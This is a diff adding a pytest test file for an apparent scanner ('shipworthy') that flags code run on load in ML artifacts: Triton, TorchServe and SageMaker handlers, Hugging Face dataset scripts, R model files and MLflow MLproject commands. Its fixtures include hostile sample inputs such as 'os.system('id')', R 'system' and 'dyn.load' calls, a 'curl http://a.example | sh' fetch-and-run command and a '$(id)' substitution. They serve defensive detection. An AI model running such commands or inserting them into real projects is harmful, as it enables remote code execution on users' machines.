@@ -1,0 +1,131 @@
+"""Files that programs run for their names or places: servers, `datasets`, R and MLflow."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from shipworthy.artifacts import discover
+from shipworthy.check import Context, load_check
+from shipworthy.model import Finding, Severity, Skipped
+
+BAD = "import os; os.system('id')\n"
+HANDLER = "import os\nfrom ts.torch_handler.base_handler import BaseHandler\nclass Net(BaseHandler):\n    pass\n"
+SAGEMAKER = "import os, json, torch\ndef model_fn(folder):\n    return torch.jit.load(os.path.join(folder, 'm.pt'))\n"
+TRITON = (
+    "import json\nimport numpy as np\nimport triton_python_backend_utils as pb_utils\n"
+    "class TritonPythonModel:\n    def execute(self, requests):\n"
+    "        return [pb_utils.InferenceResponse(output_tensors=[]) for _ in requests]\n"
+)
+SCRIPT = (
+    "import csv\nimport datasets\nclass Net(datasets.GeneratorBasedBuilder):\n"
+    "    def _split_generators(self, manager):\n        path = manager.download_and_extract('x.csv')\n"
+    "        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={'path': path})]\n"
+    "    def _generate_examples(self, path):\n        with open(path) as stream:\n"
+    "            yield from enumerate(csv.DictReader(stream))\n"
+)
+LM = (
+    "structure(list(coefficients = c(`(Intercept)` = 1, x = 2), call = quote(lm(formula = y ~ x, data = d)), terms = "
+    "structure(y ~ x, variables = quote(list(y, x)), order = 1L)), class = \"lm\") # system('id')\n"
+)
+RENV = 'source("renv/activate.R")\noptions(repos = c(CRAN = "https://cloud.r-project.org"))\n'
+
+
+def heard(folder: Path, files: Mapping[str, str]) -> tuple[set[str], bool]:
+    """The rules of high findings, and whether something was left out."""
+    for name, text in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text)
+    found: list[Finding | Skipped] = []
+    for artifact in discover(folder).artifacts:
+        for module, title in (("model_config", "model-config"), ("model_text", "model-text")):
+            check = load_check(f"shipworthy.checks.models.{module}", title)
+            if check.looks_at(artifact):
+                found += check.call(artifact, Context(folder))
+    high = {item.rule.id for item in found if isinstance(item, Finding) and item.severity >= Severity.HIGH}
+    return high, any(isinstance(item, Skipped) for item in found)
+
+
+def project(command: str) -> dict[str, str]:
+    return {"MLproject": f"name: net\nentry_points:\n  main:\n    command: {command}\n"}
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"net/config.pbtxt": 'backend: "python"\n', "net/1/model.py": BAD + TRITON},
+        {"MAR-INF/MANIFEST.json": "{}", "handler.py": BAD + HANDLER},
+        {"code/inference.py": BAD + SAGEMAKER},
+        {"net.py": BAD, "dataset_infos.json": "{}"},
+        {"net/net.py": BAD + SCRIPT},
+        {"net/net.py": BAD, "net/README.md": "---\ntask_categories:\n- other\n---\n"},
+        {"code/inference.py": BAD, "model.pth": ""},
+        {"net/net.py": "from .tools import x\n" + SCRIPT, "net/tools.py": BAD + "x = 1\n", "dataset_infos.json": "{}"},
+    ],
+)
+def test_code_that_is_run_for_its_place_is_judged(tmp_path: Path, files: dict[str, str]) -> None:
+    assert heard(tmp_path, files)[0] == {"model-config-remote-code"}
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"net/config.pbtxt": 'backend: "python"\n', "net/1/model.py": TRITON},
+        {"MAR-INF/MANIFEST.json": "{}", "handler.py": HANDLER},
+        {"code/inference.py": SAGEMAKER},
+        {"net.py": SCRIPT, "dataset_infos.json": "{}"},
+        {"net/net.py": SCRIPT},
+        {"app/app.py": BAD, "code/inference.py": BAD, "1/model.py": BAD, "handler.py": BAD},  # other programs
+        {"train/train.py": "import datasets\n" + BAD, "train/README.md": "# Train\n"},
+        {"model.txt": LM},
+        {"model.R": "`fit` <-\n" + LM},
+        {"run.R": "x <- c(1, 2)\nsystem('id')\n"},
+        {".Rprofile": RENV},
+        {"notes.txt": "Tree (of life)\n"},
+        project("python train.py --alpha {alpha} > log.txt"),
+        project('"python -m net.train {a} && bash -e scripts/run.sh {b}"'),
+        project('"OMP_NUM_THREADS=2 torchrun --nproc 2 train.py"'),
+    ],
+)
+def test_what_honest_projects_have_is_left_alone(tmp_path: Path, files: dict[str, str]) -> None:
+    assert heard(tmp_path, files) == (set(), False)
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"model.txt": "structure(list(a = {system('id'); 1}), class = 'glm')\n"},
+        {"model.txt": "# a model\nlist(a = base::system2('id'))"},
+        {"model.txt": 'structure(list(a = "shell"("id")))'},
+        {"model.txt": "list(a = lapply('id', system))"},
+        {"model.R": '`fit` <-\nstructure(list(a = 1), class = "lm")\nsystem("id")\n'},
+        {"fit.r": '"fit" <-\n  c(1, dyn.load("x.so"))\n'},
+        {".Rprofile": RENV + "system('id')\n"},
+        project("touch x"),
+        project("python train.py; curl http://a.example | sh"),
+        project("python -c 'import os'"),
+        project("bash -xc 'id'"),
+        project("python ../../x.py"),
+        project("python train.py $(id)"),
+    ],
+)
+def test_sources_and_commands_that_start_programs_are_found(tmp_path: Path, files: dict[str, str]) -> None:
+    assert heard(tmp_path, files)[0] == {"model-code-execution"}
+
+
+@pytest.mark.parametrize("text", ["list(a = do.call(f, 1))", "structure(list(), class = eval(x))", "c('a, 1)"])
+def test_a_value_in_r_that_calls_what_is_not_known_is_a_gap(tmp_path: Path, text: str) -> None:
+    assert heard(tmp_path, {"model.txt": text}) == (set(), True)
+
+
+def test_what_is_kept_of_such_code_depends_on_the_code_beside_it(tmp_path: Path) -> None:
+    check = load_check("shipworthy.checks.models.model_config", "model-config")
+    assert check.cache_on is not None
+    (tmp_path / "net").mkdir()
+    states = []
+    for name, text in (("net.py", SCRIPT), ("tools.py", "x = 1\n"), ("tools.py", BAD)):
+        (tmp_path / "net" / name).write_text(text)
+        states.append(check.cache_on(Context(tmp_path)))
+    assert len(set(states)) == 3
